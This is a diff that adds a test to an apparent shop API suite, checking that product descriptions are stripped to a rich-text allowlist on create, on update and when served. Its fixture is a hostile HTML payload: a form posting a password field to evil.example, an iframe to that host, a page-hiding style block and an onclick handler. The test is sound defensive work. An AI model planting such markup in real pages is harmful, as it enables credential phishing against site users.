@@ -115,6 +115,25 @@ test('a created product is in the shop at once, with its first price recorded an
   expect(entry!.changes).toEqual(expect.arrayContaining([{ field: 'price', before: null, after: '11.49' }]));
 });
 
+test('descriptions are reduced to the rich-text allowlist on write, and again when served (issue #21)', async () => {
+  const payload =
+    '<p>Text</p><style>body{display:none}</style><form action="https://evil.example"><input name="pw"></form>' +
+    '<iframe src="https://evil.example"></iframe><p onclick="x()" style="position:fixed">Mehr</p>';
+  const product = await create(podInput({ description: payload }));
+  const safe = '<p>Text</p><p>Mehr</p>';
+  expect(product.description).toBe(safe);
+  expect((await productModel(app.db).findById(product.id).lean())!.description).toBe(safe);
+  const changed = await call('PATCH', `/api/admin/products/${product.id}`, {
+    version: 0,
+    changes: { description: `${payload}<h1>Neu</h1>` },
+  });
+  expect(changed.json().description).toBe(`${safe}<h2>Neu</h2>`);
+  // A record written before the rule (raw HTML in the database) is served sanitised.
+  await productModel(app.db).updateOne({ _id: product.id }, { $set: { description: payload } });
+  await app.catalog.refresh();
+  expect((await app.inject({ method: 'GET', url: `/api/products/${product.id}` })).json().description).toBe(safe);
+});
+
 test('bad input: German messages at the field; duplicates are 409', async () => {
   const cheaper = await call('POST', '/api/admin/products', podInput({ price: '5.00', salePrice: '6.00' }));
   expect(cheaper.statusCode).toBe(400);
